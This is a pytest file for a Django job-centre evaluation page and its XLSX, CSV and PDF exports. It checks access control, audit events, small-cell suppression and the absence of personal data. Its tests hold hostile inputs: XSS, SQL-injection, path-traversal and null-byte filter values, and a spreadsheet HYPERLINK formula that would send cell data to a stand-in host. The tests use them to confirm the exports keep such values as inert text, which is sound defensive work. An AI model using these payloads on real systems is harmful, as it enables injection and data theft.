"""evaluation:page and its downloads — management only, aggregates only, audited."""

from __future__ import annotations

import csv
import io
import uuid

import pytest
from django.core.cache import cache
from django.urls import reverse
from openpyxl import load_workbook

from neue_wege.clients.models import Client
from neue_wege.evaluation import synthetic
from neue_wege.jobs.worker import run_queued
from neue_wege.privacy.models import AuditEvent
from neue_wege.testing.assertions import pdf_text

pytestmark = pytest.mark.django_db
PAGE = reverse("evaluation:page")
DOWNLOADS = [reverse("evaluation:export-xlsx"), reverse("evaluation:export-csv"),
             reverse("evaluation:export-pdf")]
RECOMPUTE = reverse("evaluation:recompute")


def computed(session, query=None):  # noqa: ANN001
    """The page reads snapshots: compute the one for these filters ("Neu berechnen" + worker)."""
    assert session.post(RECOMPUTE, query or {}).status_code == 302
    run_queued()
    return session


@pytest.fixture(autouse=True)
def _fresh_cache():
    cache.clear()
    yield
    cache.clear()


@pytest.fixture
def world(cast):
    return synthetic.build(job_centre=cast.job_centre, case_manager=cast.karl,
                           facilitator=cast.fatma, location=cast.location,
                           municipalities=[cast.bocholt, cast.gronau], programme=cast.programme)



def personal_strings() -> set[str]:
    """Every name and client number in the database: none may appear in a download."""
    found = set()
    for first, last, number in Client.objects.values_list("first_name", "last_name",
                                                          "case_number"):
        found |= {last, number, f"{first} {last}"}
    return found


def test_anonymous_is_sent_to_login(client):
    for url in [PAGE, *DOWNLOADS]:
        response = client.get(url)
        assert response.status_code == 302
        assert reverse("login") in response["Location"]


@pytest.mark.parametrize("persona", ["fatma", "karl", "admin", "olga", "nina_user"])
def test_only_management_gets_in(cast, login, persona):
    session = login(getattr(cast, persona))
    for url in [PAGE, *DOWNLOADS]:
        assert session.get(url).status_code == 403, (persona, url)


def test_post_is_not_allowed(cast, login):
    assert login(cast.maria).post(PAGE).status_code == 405


def test_management_sees_tables_charts_comparison_and_reading(cast, login, world):
    response = computed(login(cast.maria)).get(PAGE)
    assert response.status_code == 200
    html = response.content.decode()
    assert "Kennzahlen nach Projekt" in html
    assert "Neustart Beruf" in html
    assert 'id="km-chart-title"' in html and "<path d=\"M" in html
    assert "Balance der Merkmale vor und nach dem Abgleich" in html
    assert "Was heißt das?" in html and "Prozentpunkte" in html
    assert "Grenzen" in html
    for text in personal_strings():
        assert text not in html
    assert "style=" not in html.split("<main", 1)[1]  # strict CSP: no inline style
    event = AuditEvent.objects.get(actor=cast.maria, action=AuditEvent.Action.VIEW,
                                   object_type="organisation.JobCentre")
    assert event.object_id == str(cast.job_centre.pk)
    assert event.reason.startswith("Auswertung")


def test_filters_by_programme_and_year(cast, login, world):
    programme = world.programmes[1]
    year = world.runs[0].starts_on.year
    query = {"projekt": programme.pk, "jahr": year}
    response = computed(login(cast.maria), query).get(PAGE, query)
    assert response.status_code == 200
    table = response.content.decode().split('id="kf-programme-caption"')[1].split("</table>")[0]
    assert programme.name in table and "Stärken entdecken" not in table
    event = AuditEvent.objects.filter(actor=cast.maria).latest("at")
    assert programme.name in event.reason and str(year) in event.reason


def test_a_programme_of_another_job_centre_or_a_guessed_id_is_refused(cast, login, world):
    from neue_wege.programmes.models import Programme

    foreign = Programme.objects.create(job_centre=cast.other_job_centre, name="Fremdprojekt")
    session = login(cast.maria)
    for value in (foreign.pk, uuid.uuid4(), "kein-wert"):
        response = session.get(PAGE, {"projekt": value})
        assert response.status_code == 400
        assert "Bitte wählen Sie ein Projekt aus der Liste." in response.content.decode()
        assert "Fremdprojekt" not in response.content.decode()


def test_nothing_to_show_is_said_kindly(cast, login):
    response = computed(login(cast.maria), {"jahr": 2014}).get(PAGE, {"jahr": 2014})
    assert response.status_code == 200
    assert "Für diese Auswahl gibt es keine Teilnahmen." in response.content.decode()


def test_excel_has_several_sheets_and_no_personal_data(cast, login, world):
    response = computed(login(cast.maria)).get(DOWNLOADS[0])
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith('attachment; filename="auswertung-')
    book = load_workbook(io.BytesIO(response.content))
    assert len(book.sheetnames) >= 8
    assert "Vergleich" in book.sheetnames and "Balance" in book.sheetnames
    cells = {str(c) for sheet in book for row in sheet.iter_rows(values_only=True)
             for c in row if c is not None}
    assert "Neustart Beruf" in cells
    assert not personal_strings() & cells
    assert not any(p in c for c in cells for p in personal_strings())
    assert AuditEvent.objects.filter(actor=cast.maria, action=AuditEvent.Action.EXPORT,
                                     reason__contains="XLSX").count() == 1


def test_csv_is_semicolon_separated_and_has_no_personal_data(cast, login, world):
    response = computed(login(cast.maria)).get(DOWNLOADS[1])
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert any(row[0].startswith("Kennzahlen") for row in rows)
    for personal in personal_strings():
        assert personal not in text
    assert AuditEvent.objects.filter(action=AuditEvent.Action.EXPORT,
                                     reason__contains="CSV").exists()


def test_pdf_report_is_a_pdf_without_personal_data(cast, login, world):
    response = computed(login(cast.maria)).get(DOWNLOADS[2])
    assert response.status_code == 200
    assert response.content.startswith(b"%PDF")
    text = pdf_text(response.content)
    assert "Auswertung der Projekte" in text
    assert "Grenzen" in text
    for personal in personal_strings():
        assert personal not in text
    assert AuditEvent.objects.filter(action=AuditEvent.Action.EXPORT,
                                     reason__contains="PDF").exists()


def test_small_programmes_are_suppressed_on_the_page(cast, login):
    # Only the cast: three participants in one programme, in two runs of 1–4 people each.
    # The runs are "< 5"; the programme (their sum) and the total are hidden with them ("•"),
    # since no complement exists that could protect the runs.
    response = computed(login(cast.maria)).get(PAGE)
    html = response.content.decode()
    runs = html.split('id="kf-run-caption"')[1].split("</table>")[0]
    assert "&lt; 5" in runs
    table = html.split('id="kf-programme-caption"')[1].split("</table>")[0]
    assert "•" in table
    assert ">3<" not in table and ">3<" not in runs


@pytest.mark.parametrize("query", [
    {"jahr": "99999"}, {"jahr": "-1"}, {"jahr": "2020\x00"}, {"standort": "../../etc"},
    {"zielgruppe": "<script>alert(1)</script>"}, {"projekt": "' OR 1=1 --"},
    {"projekt": "0" * 5000}, {"jahr": ["2024", "2025"]},
])
def test_hostile_filters_get_a_kind_400_never_a_server_error(cast, login, query):
    response = login(cast.maria).get(PAGE, query)
    assert response.status_code in (200, 400)
    html = response.content.decode()
    assert "<script>alert(1)</script>" not in html
    if response.status_code == 400:
        assert "Bitte wählen Sie" in html
    for url in DOWNLOADS:
        # 302: no snapshot of these filters yet, back to the page that offers to compute it
        assert login(cast.maria).get(url, query).status_code in (200, 302, 400)


def test_target_group_filter_and_empty_downloads(cast, login, world):
    session = computed(computed(login(cast.maria), {"zielgruppe": "unter 25"}), {"jahr": 2014})
    response = session.get(PAGE, {"zielgruppe": "unter 25"})
    table = response.content.decode().split('id="kf-target_group-caption"')[1].split(
        "</table>")[0]
    assert "unter 25" in table and "alle Erwachsenen" not in table
    empty = session.get(DOWNLOADS[0], {"jahr": 2014})
    assert empty.status_code == 200
    assert load_workbook(io.BytesIO(empty.content)).sheetnames == ["Hinweise"]


def test_management_of_another_job_centre_sees_none_of_these_figures(cast, login, world):
    from neue_wege.organisation.models import User
    from neue_wege.testing.personas import make_user

    other = make_user("mara", User.Role.MANAGEMENT, cast.other_job_centre, "Mara", "Fremd")
    session = computed(login(other))
    html = session.get(PAGE).content.decode()
    assert "Für diese Auswahl gibt es keine Teilnahmen." in html
    assert "Neustart Beruf" not in html and "Stärken entdecken" not in html
    text = session.get(DOWNLOADS[1]).content.decode("utf-8-sig")
    assert "Neustart Beruf" not in text
    # Her own filter list offers only her centre's programmes: ours is an invalid choice.
    assert session.get(PAGE, {"projekt": world.programmes[1].pk}).status_code == 400


def test_downloads_keep_a_formula_named_programme_as_text(cast, login, world):
    """Issue 12, point 7: a programme named like a formula is text in Excel and CSV."""
    hostile = '=HYPERLINK("http://x"&B3,"Details")'
    cast.programme.name = hostile
    cast.programme.save(update_fields=["name"])
    browser = computed(login(cast.maria))
    book = load_workbook(io.BytesIO(browser.get(DOWNLOADS[0]).content))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value == hostile]
    assert cells and all(c.data_type == "s" for c in cells)
    assert not [c for sheet in book for row in sheet.iter_rows() for c in row
                if c.data_type == "f"]
    text = browser.get(DOWNLOADS[1]).content.decode("utf-8-sig")
    fields = [f for row in csv.reader(io.StringIO(text), delimiter=";") for f in row]
    assert "'" + hostile in fields and hostile not in fields
